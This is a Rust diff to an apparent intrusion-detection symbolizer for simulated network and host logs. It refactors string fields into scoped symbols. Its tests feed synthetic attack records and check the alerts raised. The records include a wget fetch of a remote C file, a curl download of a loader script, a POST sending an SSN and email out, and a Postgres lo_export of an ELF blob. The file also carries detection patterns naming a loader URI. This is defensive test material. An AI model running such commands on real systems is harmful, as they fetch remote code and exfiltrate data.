@@ -50,8 +50,8 @@ pub struct SymbolizerConfig {
     /// Message sanitization settings. Alerts carry lazily rendered
     /// [`MessageSpec`]s, so this policy applies when a message is
     /// *surfaced*: render through [`Symbolizer::render_message`] (or
-    /// `MessageSpec::render_with(&cfg.sanitize)`) to honour it. The
-    /// plain `MessageSpec::render` / `Display` path uses
+    /// `MessageSpec::render_with(&cfg.sanitize, scope)`) to honour it.
+    /// The plain `MessageSpec::render` / `Display` path uses
     /// [`SanitizeConfig::default`].
     pub sanitize: SanitizeConfig,
 }
@@ -59,8 +59,8 @@ pub struct SymbolizerConfig {
 impl Default for SymbolizerConfig {
     fn default() -> Self {
         SymbolizerConfig {
-            ghost_accounts: vec!["svcbackup".into(), "gridftp".into()],
-            default_db_users: vec!["postgres".into(), "admin".into()],
+            ghost_accounts: vec!["svcbackup".to_owned(), "gridftp".to_owned()],
+            default_db_users: vec!["postgres".to_owned(), "admin".to_owned()],
             c2_addresses: FxHashSet::default(),
             malware_uri_patterns: vec![
                 Pattern::new("*/ldr.sh*"),
@@ -181,15 +181,11 @@ pub struct Symbolizer {
 }
 
 impl Symbolizer {
-    /// A symbolizer over the global scope.
+    /// A symbolizer over the global scope. A tenant pipeline re-points it
+    /// with [`Symbolizer::set_scope`], so its records, config sets and
+    /// alerts all live in the tenant's symbol universe.
     pub fn new(cfg: SymbolizerConfig) -> Self {
-        Self::new_in(cfg, SymScope::global())
-    }
-
-    /// A symbolizer over an explicit scope — what a tenant pipeline uses
-    /// so its records, config sets and alerts all live in the tenant's
-    /// symbol universe.
-    pub fn new_in(cfg: SymbolizerConfig, scope: SymScope) -> Self {
+        let scope = SymScope::global();
         let ghost_users = cfg.ghost_accounts.iter().map(|s| scope.sym(s)).collect();
         let default_db_users = cfg.default_db_users.iter().map(|s| scope.sym(s)).collect();
         Symbolizer {
@@ -246,7 +242,7 @@ impl Symbolizer {
     /// (`cfg.sanitize`) — the §II-A scrubbing the eager-string pipeline
     /// applied at emission time now happens here, at surfacing time.
     pub fn render_message(&self, msg: &MessageSpec) -> String {
-        msg.render_with_in(&self.cfg.sanitize, &self.scope)
+        msg.render_with(&self.cfg.sanitize, &self.scope)
     }
 
     fn is_internal(&self, addr: Ipv4Addr) -> bool {
@@ -641,7 +637,7 @@ impl Symbolizer {
                         AlertKind::ElfMagicInDbBlob,
                         MessageSpec::ElfBlob {
                             bytes: *bytes,
-                            hex_prefix: hex_prefix.as_str().into(),
+                            hex_prefix: self.scope.sym(hex_prefix),
                         },
                     );
                 }
@@ -650,7 +646,7 @@ impl Symbolizer {
                 push(
                     AlertKind::LoExportExecution,
                     MessageSpec::LoExport {
-                        path: path.as_str().into(),
+                        path: self.scope.sym(path),
                     },
                 );
             }
@@ -658,7 +654,7 @@ impl Symbolizer {
                 push(
                     AlertKind::RemoteCodeExecAttempt,
                     MessageSpec::CopyFromProgram {
-                        program: program.as_str().into(),
+                        program: self.scope.sym(program),
                     },
                 );
             }
@@ -710,6 +706,12 @@ mod tests {
 
     fn sym() -> Symbolizer {
         Symbolizer::with_defaults()
+    }
+
+    /// A record field interned in the global scope, the scope of
+    /// [`sym`]'s symbolizer.
+    fn g(text: &str) -> Sym {
+        SymScope::global().sym(text)
     }
 
     fn conn(
@@ -826,18 +828,21 @@ mod tests {
             uid: FlowId(2),
             orig_h: "141.142.2.5".parse().unwrap(),
             resp_h: "64.215.4.5".parse().unwrap(),
-            method: "GET".into(),
-            host: "64.215.4.5".into(),
-            uri: "/abs.c".into(),
+            method: g("GET"),
+            host: g("64.215.4.5"),
+            uri: g("/abs.c"),
             status: 200,
-            mime: "text/x-c".into(),
-            user_agent: "Wget/1.21".into(),
+            mime: g("text/x-c"),
+            user_agent: g("Wget/1.21"),
         });
         let alerts = sym().symbolize(&r);
         assert_eq!(alerts.len(), 1);
         assert_eq!(alerts[0].kind, AlertKind::DownloadSensitive);
         // Message sanitized (at render time): masked IP.
-        assert!(alerts[0].message.contains("64.215.xxx.yyy"));
+        assert!(alerts[0]
+            .message
+            .render(&SymScope::global())
+            .contains("64.215.xxx.yyy"));
     }
 
     #[test]
@@ -847,12 +852,12 @@ mod tests {
             uid: FlowId(2),
             orig_h: "141.142.77.5".parse().unwrap(),
             resp_h: "194.145.4.5".parse().unwrap(),
-            method: "GET".into(),
-            host: "194.145.4.5".into(),
-            uri: "/ldr.sh?e7945e_postgres:postgres".into(),
+            method: g("GET"),
+            host: g("194.145.4.5"),
+            uri: g("/ldr.sh?e7945e_postgres:postgres"),
             status: 200,
-            mime: "text/x-shellscript".into(),
-            user_agent: "curl/8".into(),
+            mime: g("text/x-shellscript"),
+            user_agent: g("curl/8"),
         });
         let alerts = sym().symbolize(&r);
         assert_eq!(alerts.len(), 1);
@@ -866,12 +871,12 @@ mod tests {
             uid: FlowId(2),
             orig_h: "141.142.2.5".parse().unwrap(),
             resp_h: "5.5.5.5".parse().unwrap(),
-            method: "POST".into(),
-            host: "5.5.5.5".into(),
-            uri: "/upload?ssn=123456789&mail=a@b.com".into(),
+            method: g("POST"),
+            host: g("5.5.5.5"),
+            uri: g("/upload?ssn=123456789&mail=a@b.com"),
             status: 200,
-            mime: "text/html".into(),
-            user_agent: "curl/8".into(),
+            mime: g("text/html"),
+            user_agent: g("curl/8"),
         });
         let alerts = sym().symbolize(&r);
         assert!(alerts
@@ -887,10 +892,10 @@ mod tests {
                 uid: FlowId(3),
                 orig_h: "132.1.2.3".parse().unwrap(),
                 resp_h: "141.142.1.1".parse().unwrap(),
-                user: "alice".into(),
+                user: g("alice"),
                 method: simnet::action::AuthMethod::Password,
                 success,
-                client_banner: "OpenSSH".into(),
+                client_banner: g("OpenSSH"),
                 direction: dir,
             })
         };
@@ -917,10 +922,10 @@ mod tests {
             uid: FlowId(3),
             orig_h: "132.1.2.3".parse().unwrap(),
             resp_h: "141.142.1.1".parse().unwrap(),
-            user: "svcbackup".into(),
+            user: g("svcbackup"),
             method: simnet::action::AuthMethod::PublicKey,
             success: true,
-            client_banner: "OpenSSH".into(),
+            client_banner: g("OpenSSH"),
             direction: Direction::Inbound,
         });
         let alerts = sym().symbolize(&r);
@@ -935,12 +940,12 @@ mod tests {
             LogRecord::Process(ProcessRecord {
                 ts: SimTime::from_secs(1),
                 host: HostId(0),
-                hostname: "cn01".into(),
-                user: "eve".into(),
+                hostname: g("cn01"),
+                user: g("eve"),
                 pid: 1,
                 ppid: 0,
-                exe: "/bin/sh".into(),
-                cmdline: cmd.into(),
+                exe: g("/bin/sh"),
+                cmdline: g(cmd),
             })
         };
         let k = |cmd: &str| sym().symbolize(&proc(cmd)).first().map(|a| a.kind);
@@ -980,9 +985,9 @@ mod tests {
                 orig_h: "111.200.1.1".parse().unwrap(),
                 resp_h: "141.142.77.5".parse().unwrap(),
                 host: Some(HostId(9)),
-                user: user.into(),
+                user: g(user),
                 command,
-                statement: stmt.into(),
+                statement: g(stmt),
             })
         };
         let mut s = sym();
@@ -994,7 +999,7 @@ mod tests {
         assert_eq!(a[0].kind, AlertKind::DbVersionRecon);
         let a = s.symbolize(&db(
             DbCommandKind::LargeObjectWrite {
-                hex_prefix: "7F454C46".into(),
+                hex_prefix: "7F454C46".to_owned(),
                 bytes: 50_000,
             },
             "lo_from_bytea",
@@ -1003,7 +1008,7 @@ mod tests {
         assert_eq!(a[0].kind, AlertKind::ElfMagicInDbBlob);
         let a = s.symbolize(&db(
             DbCommandKind::LoExport {
-                path: "/tmp/kp".into(),
+                path: "/tmp/kp".to_owned(),
             },
             "select lo_export(1, '/tmp/kp')",
             "postgres",
@@ -1022,10 +1027,10 @@ mod tests {
         let r = LogRecord::Audit(telemetry::record::AuditRecord {
             ts: SimTime::from_secs(1),
             host: HostId(0),
-            hostname: "cn01".into(),
-            user: "eve".into(),
-            syscall: "setuid".into(),
-            args: "uid=0".into(),
+            hostname: g("cn01"),
+            user: g("eve"),
+            syscall: g("setuid"),
+            args: g("uid=0"),
             exit_code: 0,
         });
         let alerts = sym().symbolize(&r);
@@ -1037,8 +1042,8 @@ mod tests {
     fn custom_notice_maps_via_symbol() {
         let r = LogRecord::Notice(NoticeRecord {
             ts: SimTime::from_secs(1),
-            note: NoticeKind::Custom("alert_lateral_movement".into()),
-            msg: "site policy".into(),
+            note: NoticeKind::Custom(g("alert_lateral_movement")),
+            msg: g("site policy"),
             src: "141.142.77.5".parse().unwrap(),
             dst: None,
             sub: Sym::EMPTY,
@@ -1062,7 +1067,10 @@ mod tests {
         ));
         // The default render path masks; the symbolizer's configured
         // policy (mask_ips = false) keeps the raw address.
-        assert!(alerts[0].message.render().contains("141.142.xxx.yyy"));
+        assert!(alerts[0]
+            .message
+            .render(s.scope())
+            .contains("141.142.xxx.yyy"));
         assert!(s.render_message(&alerts[0].message).contains("141.142.2.1"));
     }
 
@@ -1092,7 +1100,8 @@ mod tests {
         // interned — it gets the lowest free id.
         let malicious = "wget http://64.215.4.5/abs.c";
         let mal_sym = scope_a.sym(malicious);
-        let mut s = Symbolizer::new_in(SymbolizerConfig::default(), scope_a.clone());
+        let mut s = Symbolizer::with_defaults();
+        s.set_scope(scope_a.clone());
         let alerts = s.symbolize(&proc_in(&scope_a, malicious));
         assert_eq!(alerts[0].kind, AlertKind::DownloadSensitive);
 
@@ -1139,8 +1148,10 @@ mod tests {
                 sub: Sym::EMPTY,
             })
         };
-        let mut s_a = Symbolizer::new_in(SymbolizerConfig::default(), scope_a);
-        let mut s_b = Symbolizer::new_in(SymbolizerConfig::default(), scope_b);
+        let mut s_a = Symbolizer::with_defaults();
+        s_a.set_scope(scope_a);
+        let mut s_b = Symbolizer::with_defaults();
+        s_b.set_scope(scope_b);
         assert_eq!(
             s_a.symbolize(&notice(a_sym))[0].kind,
             AlertKind::LateralMovementAttempt
